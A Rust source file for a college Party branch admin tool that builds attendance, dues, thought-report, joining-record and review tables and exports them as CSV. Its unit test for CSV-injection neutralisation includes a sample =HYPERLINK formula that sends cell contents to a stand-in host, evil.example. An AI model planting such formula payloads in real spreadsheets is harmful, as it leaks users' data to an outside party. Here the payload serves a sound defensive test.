//! Reports for the college: attendance per event, the 100-day copy campaign per member, the
//! study notes, the quarter's thought reports (思想汇报), the joining record (发展党员纪实), the
//! dues ledger (党费台账) and the democratic review (民主评议党员) — as plain tables (headers +
//! rows of text), which the command line writes as CSV or XLSX and the admin pages show.
//! Attendance is a fact per event, never a score or a ranking; every per-person table is in
//! roster order.

use std::collections::HashMap;

use chrono::{DateTime, FixedOffset, NaiveDate};

use crate::catalog::Catalog;
use crate::domain::dues::{self as dues_rules, Month};
use crate::domain::{MemberId, NoteStatus, Quarter, distance_m};
use crate::file;
use crate::store::{CopyStore, DocumentStore, MemberStore, NoteStore, SigninStore};

/// A report: column headers (Chinese, as the college reads them) and rows of cells.
#[derive(Debug, Clone, PartialEq)]
pub struct Table {
    pub title: String,
    pub headers: Vec<String>,
    pub rows: Vec<Vec<String>>,
    /// Columns that hold numbers (written as numbers in a spreadsheet; ids stay text even when
    /// they are digits, so student numbers keep their leading zeros).
    pub numeric: Vec<usize>,
}

impl Table {
    /// A table with plain headers and no numeric columns.
    pub fn new(title: &str, headers: &[&str], rows: Vec<Vec<String>>) -> Table {
        Table {
            title: title.into(),
            headers: headers.iter().map(|h| h.to_string()).collect(),
            rows,
            numeric: vec![],
        }
    }

    /// CSV in UTF-8 with a byte-order mark, so that Excel and WPS read the Chinese right. A cell
    /// that a spreadsheet would run as a formula is neutralised (see [`spreadsheet_safe`]).
    pub fn csv(&self) -> String {
        let mut w = csv::Writer::from_writer(Vec::new());
        // Writing to memory cannot fail.
        let _ = w.write_record(self.headers.iter().map(|c| spreadsheet_safe(c).into_owned()));
        for row in &self.rows {
            let _ = w.write_record(row.iter().map(|c| spreadsheet_safe(c).into_owned()));
        }
        let bytes = w.into_inner().unwrap_or_default();
        format!("\u{feff}{}", String::from_utf8_lossy(&bytes))
    }
}

/// A cell as text a spreadsheet will not evaluate: one starting with `=`, `+`, `-`, `@`, a tab
/// or a carriage return (a member's note `=HYPERLINK(...)`) gets a leading apostrophe, which
/// Excel and WPS show as plain text (OWASP's advice for CSV injection).
pub fn spreadsheet_safe(cell: &str) -> std::borrow::Cow<'_, str> {
    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        std::borrow::Cow::Owned(format!("'{cell}"))
    } else {
        std::borrow::Cow::Borrowed(cell)
    }
}

fn when(t: DateTime<FixedOffset>) -> String {
    t.format("%Y-%m-%d %H:%M").to_string()
}

fn yes(b: bool) -> String {
    if b { "是" } else { "否" }.to_string()
}

/// Every event that opens between `from` and `to` (inclusive dates), one row per member in
/// roster order: signed in or not, when, and for on-site events whether inside the geofence and
/// the approximate distance (the stored location is coarse, about 1 km); for a member who did not
/// sign in, whether an admin confirmed their attendance (实习单位证明 or 支部确认).
pub async fn attendance(
    store: &(impl MemberStore + SigninStore + crate::store::DocumentStore + ?Sized),
    catalog: &Catalog,
    from: NaiveDate,
    to: NaiveDate,
) -> anyhow::Result<Table> {
    let members = store.members().await?;
    let mut events: Vec<_> =
        catalog.events.values().filter(|e| (from..=to).contains(&e.opens.date_naive())).collect();
    events.sort_by_key(|e| (e.opens, e.id.clone()));
    let mut rows = Vec::new();
    for event in events {
        let signins = store.signins_of_event(&event.id).await?;
        let confirmed = crate::file::host::confirmed_at(store, &event.id).await?;
        for m in &members {
            let signin = signins.iter().find(|s| s.member_id == m.member.id);
            let confirmation = confirmed.iter().find(|c| c.member_id == m.member.id);
            let (inside, distance) = match (signin.and_then(|s| s.location), &event.geofence) {
                (Some(l), Some(g)) => (
                    l.within_geofence.map(yes).unwrap_or_default(),
                    format!("{:.0}", distance_m(l.lat, l.lon, g.lat, g.lon)),
                ),
                _ => (String::new(), String::new()),
            };
            rows.push(vec![
                event.id.clone(),
                event.title.clone(),
                when(event.opens),
                m.member.id.to_string(),
                m.member.name.clone(),
                yes(signin.is_some()),
                signin.map(|s| when(s.at)).unwrap_or_default(),
                inside,
                distance,
                confirmation.map(|c| c.basis.label().to_string()).unwrap_or_default(),
            ]);
        }
    }
    Ok(Table {
        title: format!("签到情况 {from} 至 {to}"),
        headers: [
            "活动编号",
            "活动",
            "开始时间",
            "成员编号",
            "姓名",
            "已签到",
            "签到时间",
            "在活动地点",
            "约距离（米）",
            "未签到但已确认",
        ]
        .map(String::from)
        .to_vec(),
        rows,
        numeric: vec![8],
    })
}

/// The copy campaign per member in roster order: days done of the campaign's length and one
/// column per day (✓ done). A member's own progress, in roster order, never sorted by it.
pub async fn copies(
    store: &(impl MemberStore + CopyStore + ?Sized),
    catalog: &Catalog,
    campaign: &str,
) -> anyhow::Result<Table> {
    let c = catalog
        .campaigns
        .get(campaign)
        .ok_or_else(|| anyhow::anyhow!("no campaign {campaign} in the catalog"))?;
    let mut headers: Vec<String> = ["成员编号", "姓名", "已完成天数", "总天数"].map(String::from).to_vec();
    headers.extend((1..=c.days).map(|d| format!("第{d}天")));
    let mut rows = Vec::new();
    for m in store.members().await? {
        let done: Vec<u32> = store.copies_of(&m.member.id, campaign).await?.iter().map(|k| k.day).collect();
        let mut row =
            vec![m.member.id.to_string(), m.member.name.clone(), done.len().to_string(), c.days.to_string()];
        row.extend((1..=c.days).map(|d| if done.contains(&d) { "✓".to_string() } else { String::new() }));
        rows.push(row);
    }
    Ok(Table { title: format!("{}（{}）", c.title, c.id), headers, rows, numeric: vec![2, 3] })
}

/// Study notes with a status (all statuses when `None`), oldest first.
pub async fn notes(
    store: &(impl MemberStore + NoteStore + ?Sized),
    status: Option<NoteStatus>,
) -> anyhow::Result<Table> {
    let names: std::collections::HashMap<String, String> =
        store.members().await?.into_iter().map(|m| (m.member.id.to_string(), m.member.name)).collect();
    let statuses = match status {
        Some(s) => vec![s],
        None => vec![NoteStatus::Pending, NoteStatus::Approved, NoteStatus::Rejected],
    };
    let mut notes = Vec::new();
    for s in statuses {
        notes.extend(store.notes_with_status(s).await?);
    }
    notes.sort_by(|a, b| (a.at, &a.id).cmp(&(b.at, &b.id)));
    let status_name = |s: NoteStatus| match s {
        NoteStatus::Pending => "待审核",
        NoteStatus::Approved => "已通过",
        NoteStatus::Rejected => "已退回",
    };
    let rows = notes
        .iter()
        .map(|n| {
            vec![
                n.id.clone(),
                n.page.clone(),
                n.member_id.to_string(),
                names.get(n.member_id.as_str()).cloned().unwrap_or_default(),
                status_name(n.status).to_string(),
                when(n.at),
                n.review_reason.clone().unwrap_or_default(),
                n.body.clone(),
            ]
        })
        .collect();
    Ok(Table {
        title: "学习心得".into(),
        headers: ["编号", "页面", "成员编号", "姓名", "状态", "提交时间", "审核意见", "内容"]
            .map(String::from)
            .to_vec(),
        rows,
        numeric: vec![],
    })
}

/// The thought reports (思想汇报) of `quarter`: one row per person who writes them (every stage
/// before 正式党员, by their record), in roster order — whether their report is missing, submitted
/// or read (已阅), when it was submitted and how many comments (批阅意见) it has. A draft is the
/// author's own business and counts as not submitted.
pub async fn thought_reports(
    store: &(impl MemberStore + DocumentStore + ?Sized),
    quarter: Quarter,
) -> anyhow::Result<Table> {
    let rows = file::reports::quarter_rows(store, quarter)
        .await?
        .into_iter()
        .map(|r| {
            vec![
                r.member.id.to_string(),
                r.member.name.clone(),
                r.stage.map(|s| s.label()).unwrap_or_default().to_string(),
                quarter.label(),
                r.state.label().to_string(),
                r.submitted_at.map(when).unwrap_or_default(),
                r.comments.to_string(),
            ]
        })
        .collect();
    Ok(Table {
        title: format!("思想汇报 {}", quarter.label()),
        headers: ["学号", "姓名", "阶段", "季度", "状态", "提交时间", "意见条数"].map(String::from).to_vec(),
        rows,
        numeric: vec![6],
    })
}

/// The joining record (发展党员纪实) as of `today`: one row per person on the road (a stage
/// before 正式党员, or any recorded milestone), in roster order — their stage, contact persons
/// (by name), whether they are away with a 流动党员活动证, the latest recorded milestone and its
/// date, the next step, when the probation ends, the ended quarters without a submitted 思想汇报,
/// and every other warning of the record (a missing report has its own column, so it is not
/// repeated there).
pub async fn joining(
    store: &(impl MemberStore + DocumentStore + ?Sized),
    today: NaiveDate,
) -> anyhow::Result<Table> {
    let names: HashMap<MemberId, String> =
        store.members().await?.into_iter().map(|m| (m.member.id, m.member.name)).collect();
    let people = file::joining::overview(store, today).await?;
    let rows = people
        .into_iter()
        .map(|p| {
            let contacts: Vec<String> = p
                .member
                .contacts()
                .into_iter()
                .map(|id| names.get(&id).cloned().unwrap_or_else(|| id.to_string()))
                .collect();
            let latest = p.road.steps.iter().rev().find(|s| s.date.is_some());
            let missing: Vec<String> = p.missing_reports.iter().map(Quarter::to_string).collect();
            let warnings: Vec<&str> = p
                .warnings
                .iter()
                .filter(|w| w.code != "missing_report")
                .map(|w| w.message.as_str())
                .collect();
            vec![
                p.member.id.to_string(),
                p.member.name.clone(),
                p.road.stage.map(|s| s.label()).unwrap_or_default().to_string(),
                contacts.join("、"),
                if p.member.mobile() { "是" } else { "" }.to_string(),
                latest.map(|s| s.milestone.label()).unwrap_or_default().to_string(),
                latest.and_then(|s| s.date).map(|d| d.to_string()).unwrap_or_default(),
                p.road.next.map(|m| m.label()).unwrap_or_default().to_string(),
                p.road.probation_ends.map(|d| d.to_string()).unwrap_or_default(),
                missing.join("、"),
                warnings.join("；"),
            ]
        })
        .collect();
    Ok(Table {
        title: format!("发展党员纪实 {today}"),
        headers: [
            "学号",
            "姓名",
            "阶段",
            "培养联系人",
            "流动党员",
            "最近节点",
            "节点日期",
            "下一步",
            "预备期满",
            "未交思想汇报",
            "提醒",
        ]
        .map(String::from)
        .to_vec(),
        rows,
        numeric: vec![],
    })
}

/// The dues ledger (党费台账) of `year` as of `today`: one row per person who pays dues (full and
/// probationary members), in roster order — their monthly amount (in force at the end of the
/// year, or this month for the running year), one column per month with its state (已交, 在实习
/// 单位交纳, 待确认, 未交, 免交, 未到期; empty before they became a Party member), the months of the
/// year unpaid after their due date and what they come to, and how many months in a row they are
/// behind today (across years; a reported payment counts as their part done).
pub async fn dues(
    store: &(impl MemberStore + DocumentStore + ?Sized),
    year: i32,
    today: NaiveDate,
) -> anyhow::Result<Table> {
    let this_month = Month::of(today);
    // The month whose amount the table shows: December of a past year, this month of this one.
    let shown = if year < this_month.year {
        Month { year, month: 12 }
    } else if year == this_month.year {
        this_month
    } else {
        Month { year, month: 1 }
    };
    let mut rows = Vec::new();
    for y in file::dues::branch_year(store, year, today).await? {
        let rates: Vec<(Month, u32)> =
            file::dues::history(store, &y.member.id).await?.iter().map(|r| (r.from, r.fen)).collect();
        let mut row = vec![
            y.member.id.to_string(),
            y.member.name.clone(),
            dues_rules::yuan(dues_rules::amount_for(&rates, shown).into()),
        ];
        row.extend(y.months.iter().map(|m| m.state.label().to_string()));
        row.extend([
            y.overdue.len().to_string(),
            dues_rules::yuan(y.arrears_fen),
            y.months_behind.to_string(),
        ]);
        rows.push(row);
    }
    let mut headers: Vec<String> = ["学号", "姓名", "每月金额（元）"].map(String::from).to_vec();
    headers.extend((1..=12).map(|m| format!("{m}月")));
    headers.extend(["欠交月数", "欠交金额（元）", "连续未交月数"].map(String::from));
    Ok(Table { title: format!("党费台账 {year}年"), headers, rows, numeric: vec![2, 15, 16, 17] })
}

/// A review round (民主评议党员) for the college's file: every participant (full and
/// probationary members) in roster order — whether their 个人自评 is submitted, a draft or not
/// written, how many 互评意见 are about them (the count only, never their content or writers),
/// the outcome recorded after the meeting and the committee's feedback. An id the catalog does
/// not declare is an error naming the ones it does.
pub async fn review(
    store: &(impl MemberStore + DocumentStore + ?Sized),
    catalog: &Catalog,
    id: &str,
) -> anyhow::Result<Table> {
    let Some(round) = catalog.reviews.get(id) else {
        if catalog.reviews.is_empty() {
            anyhow::bail!(
                "no review {id} in the catalog, which declares no review rounds: declare one with \
                 [extra.review] in a page's front matter and build the site"
            );
        }
        let known: Vec<String> =
            catalog.reviews.values().map(|r| format!("  {} {}", r.id, r.title)).collect();
        anyhow::bail!("no review {id} in the catalog; its review rounds are:\n{}", known.join("\n"));
    };
    let rows = file::review::round(store, &round.id)
        .await?
        .into_iter()
        .map(|p| {
            let own = match p.self_assessment.map(|s| s.status) {
                Some(file::review::SelfStatus::Submitted) => "已提交",
                Some(file::review::SelfStatus::Draft) => "草稿",
                None => "未写",
            };
            vec![
                p.member.id.to_string(),
                p.member.name.clone(),
                own.to_string(),
                p.opinions.len().to_string(),
                p.outcome.as_ref().map(|o| o.grade.label()).unwrap_or_default().to_string(),
                p.outcome.map(|o| o.feedback).unwrap_or_default(),
            ]
        })
        .collect();
    Ok(Table {
        title: round.title.clone(),
        headers: ["学号", "姓名", "个人自评", "互评意见条数", "评议结果", "组织反馈"]
            .map(String::from)
            .to_vec(),
        rows,
        numeric: vec![3],
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn csv_cells_that_would_be_formulas_are_written_as_text() {
        let bodies = [
            "=HYPERLINK(\"http://evil.example/?d=\"&A2&B2,\"点此\")",
            "@SUM(A1:A9)",
            "+1",
            "-2",
            "\tx",
            "\rx",
            "学习党章",
        ];
        let rows = bodies.iter().map(|b| vec![b.to_string()]).collect();
        let csv = Table::new("notes", &["body"], rows).csv();
        let mut reader = csv::Reader::from_reader(csv.trim_start_matches('\u{feff}').as_bytes());
        let cells: Vec<String> = reader.records().map(|r| r.unwrap()[0].to_string()).collect();
        for (cell, body) in cells.iter().zip(bodies) {
            if body == "学习党章" {
                assert_eq!(cell, body, "ordinary text is untouched");
            } else {
                assert_eq!(cell, &format!("'{body}"), "neutralised");
            }
        }
    }
}

/// Aggregates for the public statistics page: counts only, never a name or a member id, so the
/// export can be committed with the site. Participation per event and how far the campaigns
/// have come, as a distribution (no ranking).
#[derive(Debug, Clone, PartialEq, serde::Serialize, serde::Deserialize)]
pub struct Stats {
    pub generated: DateTime<FixedOffset>,
    pub members: usize,
    pub events: Vec<EventStats>,
    pub campaigns: Vec<CampaignStats>,
}

#[derive(Debug, Clone, PartialEq, serde::Serialize, serde::Deserialize)]
pub struct EventStats {
    pub id: String,
    pub title: String,
    pub date: NaiveDate,
    pub signed_in: usize,
}

#[derive(Debug, Clone, PartialEq, serde::Serialize, serde::Deserialize)]
pub struct CampaignStats {
    pub id: String,
    pub title: String,
    pub days: u32,
    /// How many members have done how many days, in bands.
    pub bands: Vec<Band>,
    /// Copies handed in, all members together.
    pub copies: usize,
}

#[derive(Debug, Clone, PartialEq, serde::Serialize, serde::Deserialize)]
pub struct Band {
    pub label: String,
    pub members: usize,
}

/// The statistics of every event that has opened by `now` and of every campaign.
pub async fn stats(
    store: &(impl MemberStore + SigninStore + CopyStore + ?Sized),
    catalog: &Catalog,
    now: DateTime<FixedOffset>,
) -> anyhow::Result<Stats> {
    let roster = store.members().await?;
    let mut events = Vec::new();
    let mut declared: Vec<_> = catalog.events.values().filter(|e| e.opens <= now).collect();
    declared.sort_by_key(|e| (e.opens, e.id.clone()));
    for e in declared {
        let signed_in = store.signins_of_event(&e.id).await?.len();
        events.push(EventStats {
            id: e.id.clone(),
            title: e.title.clone(),
            date: e.opens.date_naive(),
            signed_in,
        });
    }
    let mut campaigns = Vec::new();
    for c in catalog.campaigns.values() {
        let mut done = Vec::new();
        for m in &roster {
            done.push(store.copies_of(&m.member.id, &c.id).await?.len() as u32);
        }
        let quarter = c.days.div_ceil(4).max(1);
        let mut bands =
            vec![Band { label: "尚未开始".into(), members: done.iter().filter(|d| **d == 0).count() }];
        for q in 0..4 {
            let (lo, hi) = (q * quarter + 1, ((q + 1) * quarter).min(c.days));
            if lo > hi {
                continue;
            }
            let label = if hi == c.days {
                format!("{lo}–{hi} 天（含全部完成）")
            } else {
                format!("{lo}–{hi} 天")
            };
            bands.push(Band { label, members: done.iter().filter(|d| (lo..=hi).contains(*d)).count() });
        }
        let copies = done.iter().map(|d| *d as usize).sum();
        campaigns.push(CampaignStats {
            id: c.id.clone(),
            title: c.title.clone(),
            days: c.days,
            bands,
            copies,
        });
    }
    Ok(Stats { generated: now, members: roster.len(), events, campaigns })
}
